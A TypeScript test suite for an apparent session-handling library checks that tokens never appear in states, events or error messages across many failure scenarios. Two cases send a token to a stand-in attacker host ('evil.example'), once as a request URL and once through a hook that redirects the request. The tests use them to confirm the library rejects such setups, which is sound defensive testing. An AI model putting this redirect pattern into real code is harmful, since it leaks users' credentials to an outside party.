import { concat, defer, throwError } from 'rxjs';
import { retryOnExpired, sessionRequest, withLogin } from 'rx-weapp-session';
import { promised } from 'rx-weapp-session/marbles';
import type { Scenario } from 'rx-weapp-session/marbles';
import { request, send } from './support/guarded';
import { blab, blabbing, failing, SECRET, tellsNoSecret, token } from './support/secrets';
import type { Leak } from './support/secrets';

const refused = { x: { ...blab, statusCode: 401 } };
const force = ({ session }: Scenario) => session.login({ mode: 'force' });
const guarded = ({ session }: Scenario) => send(session).pipe(withLogin(session), retryOnExpired(session));

/** Of somebody whose credential R was stored. */
const LEAKS: readonly Leak[] = [
  {
    title: 'an expired credential',
    script: ({ backend, resources }) => {
      resources('20ms x', refused);
      backend.silentLogin.always('50ms f', failing(blab));
    },
    run: guarded,
    end: '80ms #',
    code: 'login-rejected',
  },
  {
    title: 'an expired credential, used up',
    script: ({ resources }) => resources('20ms x', refused),
    run: guarded,
    end: '100ms #',
    code: 'session-expired',
  },
  {
    title: 'a request that fails',
    script: ({ resources }) => resources('20ms f', failing(blab)),
    run: ({ session }) => request(session, `/orders?token=${token}`),
    end: '20ms #',
    code: 'request-failed',
  },
  {
    title: 'a url of an untrusted origin',
    run: ({ session }) => request(session, `https://evil.example/?token=${token}`),
    end: '#',
    code: 'config-invalid',
  },
  {
    title: 'a relative url without a baseUrl',
    config: { baseUrl: undefined, trustedOrigins: ['https://api.example.com'] },
    run: ({ session }) => sessionRequest(session, { url: `/orders?token=${token}` }),
    end: '#',
    code: 'config-invalid',
  },
  {
    title: 'attach that throws',
    config: {
      attach: (_, it) => {
        throw new Error(it.token);
      },
    },
    run: ({ session }) => send(session),
    end: '#',
    code: 'config-invalid',
  },
  {
    title: 'attach that moves the request',
    config: { attach: (options, it) => ({ ...options, url: `https://evil.example/?token=${it.token}` }) },
    run: ({ session }) => send(session),
    end: '#',
    code: 'config-invalid',
  },
  {
    title: 'isExpired that throws',
    config: {
      isExpired: () => {
        throw blabbing;
      },
    },
    run: ({ session }) => request(session),
    end: '20ms (R|)',
  },
  {
    title: 'a store that fails',
    config: {
      store: {
        read: () => {
          throw blabbing;
        },
        write: (record) => {
          throw new Error(JSON.stringify(record));
        },
        remove: () => promised(throwError(() => blabbing)),
      },
    },
    run: ({ session }) =>
      concat(
        session.login(),
        defer(() => session.logout()),
      ),
    end: '60ms (Au|)',
  },
  {
    title: 'a record that cannot be read',
    script: ({ storage }) => storage.holds({ version: 7, credential: { token } }),
    end: '60ms (A|)',
  },
  {
    title: 'a backend.logout that fails',
    script: ({ backend }) => backend.logout('50ms f', failing(blab)),
    run: ({ session }) => defer(() => session.logout()),
    end: '50ms (u|)',
  },
  {
    title: 'a refresh that fails',
    config: { credentials: { R: { token, expiresAt: -1 } } },
    script: ({ backend }) => {
      backend.refresh('50ms f', failing(blab));
      backend.silentLogin.always('50ms f', failing(blab));
    },
    end: '110ms #',
    code: 'login-rejected',
  },
  {
    title: 'a change of user',
    config: { credentials: { A: { token: `${SECRET}-A`, userId: 'u2' }, R: { token, userId: 'u1' } } },
    run: force,
    end: '60ms (A|)',
  },
  {
    title: 'a login that is logged out',
    script: ({ at, app }) => at('30ms', app.logout),
    run: force,
    end: '30ms #',
    code: 'logged-out',
  },
  {
    title: 'a login that is disposed',
    script: ({ at, app }) => at('30ms', app.dispose),
    run: force,
    end: '30ms #',
    code: 'disposed',
  },
];

describe('T3: nothing tells a secret', () => {
  for (const leak of LEAKS)
    test(`T3: no state, event, error message or JSON of an error holds a secret: ${leak.title}`, () =>
      tellsNoSecret({
        ...leak,
        script: (scenario) => {
          scenario.storage.holds('R');
          leak.script?.(scenario);
        },
      }));
});
